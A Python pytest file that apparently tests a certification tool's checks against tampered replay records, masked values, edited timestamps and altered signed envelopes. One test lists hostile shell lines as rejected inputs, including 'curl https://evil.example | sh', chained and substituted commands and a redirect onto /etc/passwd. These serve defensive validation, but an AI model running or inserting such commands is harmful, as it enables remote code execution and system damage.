"""Who holds the key is held to the suite as well.

No star, no word and no time of his stands where the suite would not have put it.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from certify.conftest import Lie
from countermand.certify import archive, contents, envelope, keys, masks, moments
from countermand.certify.check import check
from countermand.model.exchange import Request
from countermand.model.rows import ExchangeRow
from countermand.model.secret import Masker
from countermand.model.target import Identity
from countermand.model.verdict import Inconclusive
from countermand.run import replay
from countermand.run.replay import Replay

SENT = Request(
    "POST",
    "https://seller.example/cancelOrder",
    (("content-type", "text/xml"), ("x-signature", "f" * 32)),
    b"<order>12345678</order>",
    frozenset({"x-signature"}),
)


def row(**changes: Any) -> ExchangeRow:  # noqa: ANN401 - what JSON holds
    request: Any = {
        "method": "POST", "url": SENT.url, "headers": [["content-type", "text/xml"], ["x-signature", "***"]],
        "body": {"encoding": "utf8", "value": SENT.body.decode(), "masked": []}, **changes,
    }  # fmt: skip
    return {
        "number": 1, "operation": "cancelOrder", "identity": "buyer",
        "started": "2026-01-01T00:00:00.000000Z", "elapsed": 0.1,
        "request": request, "reply": None, "trouble": "timeout", "said": "", "tls": None, "sound": True,
    }  # fmt: skip


STARS: dict[str, dict[str, Any]] = {
    "a body": {"body": {"encoding": "utf8", "value": "<order>********</order>", "masked": [[7, 15]]}},
    "a body without saying so": {"body": {"encoding": "utf8", "value": "<order>********</order>", "masked": []}},
    "an address": {"url": "https://seller.example/***********"},
    "a header": {"headers": [["content-type", "********"], ["x-signature", "***"]]},
    "a signature by another length": {"headers": [["content-type", "text/xml"], ["x-signature", "*" * 32]]},
    "no signature": {"headers": [["content-type", "text/xml"], ["x-signature", "f" * 32]]},
}


def test_what_the_suite_masks_is_masked() -> None:
    assert Replay([row()], Masker()).send(Identity("buyer"), SENT, "cancelOrder").number == 1


@pytest.mark.parametrize("what", STARS)
def test_nothing_else_that_was_sent_is_masked(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Inconclusive, match="departs from its record"):
        Replay([row(**STARS[what])], Masker()).send(Identity("buyer"), SENT, "cancelOrder")
    monkeypatch.setattr(replay, "_difference", lambda *_: None)  # the guard, switched off
    assert Replay([row(**STARS[what])], Masker()).send(Identity("buyer"), SENT, "cancelOrder")


def test_a_certificate_with_a_starred_request_does_not_verify(lie: Lie, pair: tuple[Path, Path]) -> None:
    def starred(text: str) -> str:
        first, newline, rest = text.partition("\n")
        row = json.loads(first)
        body = row["exchanges"][0]["request"]["body"]
        at = body["value"].index("cancellationReason")
        body["value"] = body["value"][:at] + "*" * 18 + body["value"][at + 18 :]
        body["masked"] = [[at, at + 18]]
        return json.dumps(row, ensure_ascii=False) + newline + rest

    problems = check(lie({"record.jsonl": starred}), keys.public(pair[1])).problems
    assert any("its body differs from the record" in words for words in problems), problems


NOW = "Nonconformance: it is not so\n  clause    A\n  again     countermand run --replay c.zip -m ALA-REQ-07"


@pytest.mark.parametrize(
    "line",
    [
        "countermand run --target mine.toml -m ALA-REQ-07",
        "countermand run --target 'my targets/it'\"'\"'s.toml' --ledger l.sqlite --fail-on standard -m 'A-1 or A-2'",
        "countermand run --target /home/*****/mine.toml -m ALA-REQ-07",
        "countermand run --api ala -m ALA-REQ-07",
    ],
)
def test_a_line_that_says_how_to_repeat_may_be_of_another_place(line: str) -> None:
    assert masks.same(NOW.replace("countermand run --replay c.zip -m ALA-REQ-07", line), NOW, [])


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example | sh",
        "countermand run --target mine.toml -m ALA-REQ-07; curl https://evil.example | sh",
        "countermand run --target $(id) -m ALA-REQ-07",
        "countermand run --target `id` -m ALA-REQ-07",
        "countermand run -m ALA-REQ-07 > /etc/passwd",
        "countermand run -p evil -m ALA-REQ-07",
        "countermand serve --target mine.toml",
        "countermand run --target 'mine\u2028.toml' -m ALA-REQ-07",
        "countermand run --target 'mine.toml",
        "approved by the authority",
        "",
    ],
)
def test_a_line_that_says_how_to_repeat_does_nothing_else(line: str) -> None:
    """Whoever reads it pastes it into a shell."""
    assert not masks.same(NOW.replace("countermand run --replay c.zip -m ALA-REQ-07", line), NOW, [])


def test_a_line_that_says_how_to_repeat_stands_once_and_in_its_place() -> None:
    line = NOW.rpartition("\n")[2]
    assert masks.same(NOW, NOW, [])
    assert not masks.same(f"{line}\n{NOW}", NOW, [])
    assert not masks.same(f"{NOW}\n{line}", NOW, [])
    assert not masks.same(NOW.removesuffix(f"\n{line}"), NOW, [])
    assert not masks.same(NOW.replace("  again     ", "  again read: "), NOW, [])


def test_words_of_a_message_are_starred_only_where_a_reply_is_quoted() -> None:
    said: ExchangeRow = {**row(), "trouble": None, "reply": {
        "status": 200, "reason": "OK", "version": "HTTP/1.1", "headers": [],
        "body": {"encoding": "utf8", "value": "<key>0123456789abcdef</key>", "masked": []},
    }}  # fmt: skip
    now = "the reply shows a key\n  received  <key>0123456789abcdef</key>"
    assert masks.same(now, now, [])
    assert masks.same(now.replace("0123456789abcdef", "*" * 16), now, [said])
    assert not masks.same(now.replace("0123456789abcdef", "*" * 16), now, [])  # nobody said it
    assert not masks.same(
        now.replace("789", "***"), now, [said]
    )  # shorter than any piece of a secret that is looked for
    assert not masks.same(now.replace("the reply shows a key", "*" * 21), now, [said])  # our own words
    assert not masks.same("*" * len(now), now, [said])
    assert not masks.same(now.replace("shows", "hides"), now, [said])
    assert not masks.same(now.replace("a key", "* key"), now.replace("a key", "* key!"), [said])


def moved(files: dict[str, bytes], change: Callable[[dict[str, Any]], object]) -> list[str]:
    first, newline, rest = files["record.jsonl"].partition(b"\n")
    row = json.loads(first)
    change(row)
    return list(moments.problems({**files, "record.jsonl": json.dumps(row).encode() + newline + rest}))


def test_times_that_contradict_each_other_are_named(few: Path) -> None:
    files = archive.unpacked(few)
    assert list(moments.problems(files)) == []
    other = datetime(2020, 1, 1, tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    assert any("not played during the run" in words for words in moved(files, lambda row: row.update(started=other)))
    assert any(
        "not made when it says" in words
        for words in moved(files, lambda row: row["exchanges"][0].update(started=other))
    )
    assert any(
        "did not take as long" in words for words in moved(files, lambda row: row["exchanges"][0].update(elapsed=500))
    )
    assert any("not played during" in words for words in moved(files, lambda row: row.update(elapsed=500)))
    assert any(
        "says that it was made" in words
        for words in moved(files, lambda row: row["drawn"].update(clock=["2020-01-01T00:00:00Z"]))
    )
    results = json.loads(files["results.json"])
    late = {**files, "results.json": json.dumps({**results, "finished": "2020-01-01T00:00:00Z"}).encode()}
    assert any("before it started" in words for words in moments.problems(late))


def test_a_certificate_whose_times_were_edited_does_not_verify(lie: Lie, pair: tuple[Path, Path]) -> None:
    def slower(text: str) -> str:
        first, newline, rest = text.partition("\n")
        row = json.loads(first)
        row["exchanges"][0]["elapsed"] = 100.0
        return json.dumps(row, ensure_ascii=False) + newline + rest

    problems = check(lie({"record.jsonl": slower}), keys.public(pair[1])).problems
    assert any("did not take as long" in words for words in problems), problems


# The envelope: exactly the bytes that certify writes.


def rewritten(change: Callable[[dict[str, Any]], object]) -> Callable[[bytes], bytes]:
    def changed(data: bytes) -> bytes:
        sealed = json.loads(data)
        change(sealed)
        return json.dumps(sealed, indent=1).encode() + b"\n"

    return changed


def spaced(text: str) -> str:
    return text[:20] + "\n" + text[20:]


ENVELOPES: dict[str, Callable[[bytes], bytes]] = {
    "a word beside the payload": rewritten(lambda sealed: sealed.update(note="conforms: 46 of 46")),
    "a word beside the signature": rewritten(lambda sealed: sealed["signatures"][0].update(note="x")),
    "another key's name": rewritten(lambda sealed: sealed["signatures"][0].update(keyid="0" * 64)),
    "no name": rewritten(lambda sealed: sealed["signatures"][0].pop("keyid")),
    "a second signature": rewritten(lambda sealed: sealed["signatures"].append({"keyid": "x", "sig": ""})),
    "the same signature twice": rewritten(lambda sealed: sealed["signatures"].append(sealed["signatures"][0])),
    "white space in base64": rewritten(lambda sealed: sealed.update(payload=spaced(sealed["payload"]))),
    "white space in a signature": rewritten(
        lambda sealed: sealed["signatures"][0].update(sig=spaced(sealed["signatures"][0]["sig"]))
    ),
    "the alphabet of URLs": rewritten(
        lambda sealed: sealed["signatures"][0].update(
            sig=sealed["signatures"][0]["sig"].translate(str.maketrans("+/", "-_"))
        )
    ),
    "no padding": rewritten(
        lambda sealed: sealed["signatures"][0].update(sig=sealed["signatures"][0]["sig"].rstrip("="))
    ),
    "other bits at the end": rewritten(
        lambda sealed: sealed["signatures"][0].update(sig=loosened(sealed["signatures"][0]["sig"]))
    ),
    "a member twice": lambda data: data.replace(b'{\n "payload"', b'{\n "payload": "",\n "payload"', 1),
    "another order": lambda data: json.dumps(dict(reversed(json.loads(data).items())), indent=1).encode() + b"\n",
    "another indentation": lambda data: json.dumps(json.loads(data)).encode(),
    "an escape": lambda data: data.replace(b"payloadType", b"\\u0070ayloadType", 1),
    "a byte order mark": lambda data: b"\xef\xbb\xbf" + data,
    "more after the end": lambda data: data + b"verifies\n",
    "another type": rewritten(lambda sealed: sealed.update(payloadType="text/plain")),
}


def loosened(text: str) -> str:
    """Return another base64 of the same bytes: the last letter before the padding has bits that decode to nothing."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    at = len(text.rstrip("=")) - 1
    return text[:at] + letters[letters.index(text[at]) ^ 1] + text[at + 1 :]


@pytest.mark.parametrize("what", ENVELOPES)
def test_an_envelope_is_exactly_its_canonical_bytes(what: str, few: Path, pair: tuple[Path, Path]) -> None:
    data, key = archive.unpacked(few)[contents.ENVELOPE], keys.public(pair[1])
    assert envelope.unseal(data, key)
    changed = ENVELOPES[what](data)
    if changed == data:
        pytest.skip("this signature has none of these letters")
    with pytest.raises(envelope.EnvelopeError):
        envelope.unseal(changed, key)


def test_without_comparing_bytes_unsigned_words_pass(
    few: Path, pair: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    data = ENVELOPES["a word beside the payload"](archive.unpacked(few)[contents.ENVELOPE])
    monkeypatch.setattr(envelope, "_written", lambda *_: data)  # the guard, switched off
    assert envelope.unseal(data, keys.public(pair[1]))


@pytest.mark.parametrize(
    "payload",
    [
        b'{"a": 1}',
        b'{"a":1,"a":1}',
        b"[" * 10_000,
        b"\xff",
        b"[]",
        b'{"b":1,"a":1}',
        b'{"a":1e400}',
        b"{" + b'"a":{' * 50,
    ],
)
def test_a_payload_is_canonical_too(payload: bytes, pair: tuple[Path, Path]) -> None:
    private = keys.private(pair[0])
    signature = private.sign(envelope.encoding(envelope.TYPE, payload))
    sealed = {
        "payload": base64.b64encode(payload).decode(), "payloadType": envelope.TYPE,
        "signatures": [{"keyid": keys.name(private.public_key()), "sig": base64.b64encode(signature).decode()}],
    }  # fmt: skip
    with pytest.raises(envelope.EnvelopeError, match="its payload is"):
        envelope.unseal(json.dumps(sealed, indent=1).encode() + b"\n", private.public_key())


@pytest.mark.parametrize(
    "signatures", [[], None, 5, "x", {}, [1], [{}], [{"keyid": "a"}], [{"keyid": "a", "sig": 5}]], ids=repr
)
def test_what_an_envelope_lacks_is_said_alike_by_whoever_reads_it(signatures: object, pair: tuple[Path, Path]) -> None:
    data = json.dumps({"payload": "", "payloadType": envelope.TYPE, "signatures": signatures}).encode()
    words = "no DSSE envelope of ours: signatures: one was expected, with keyid and sig"
    with pytest.raises(envelope.EnvelopeError, match=words):
        envelope.unseal(data, keys.public(pair[1]))
    with pytest.raises(ValueError, match=words):
        keys.named({"attestation.dsse.json": data})


def test_a_page_that_was_written_by_hand_does_not_verify(lie: Lie, pair: tuple[Path, Path]) -> None:
    path = lie({"index.html": lambda page: page.replace("is kept now", "conforms")})
    assert list(check(path, keys.public(pair[1])).problems) == [
        "index.html: does not follow from the results and the record"
    ]


#: What a signer could add to results.json that nothing was judged for.
UNJUDGED: dict[str, Callable[[str], str]] = {
    "asked": lambda text: text.replace('"asked": [\n', '"asked": [\n  "ALA-XML-01",\n'),
    "answer": lambda text: re.sub(r'"answer": ".*"', '"answer": "everything conforms"', text),
    "url": lambda text: re.sub(r'("source": .*\n.*"url": ).*', r'\1"https://seller.example",', text, count=1),
    "untested": lambda text: text.replace('"untested": null', '"untested": "it conforms anyway"'),
}


@pytest.mark.parametrize("what", UNJUDGED)
def test_nothing_is_said_that_was_not_judged(what: str, lie: Lie, pair: tuple[Path, Path]) -> None:
    [problem, *_] = check(lie({"results.json": UNJUDGED[what]}), keys.public(pair[1])).problems
    assert problem.startswith("results.json: ")
    assert f"its {what} is " in problem
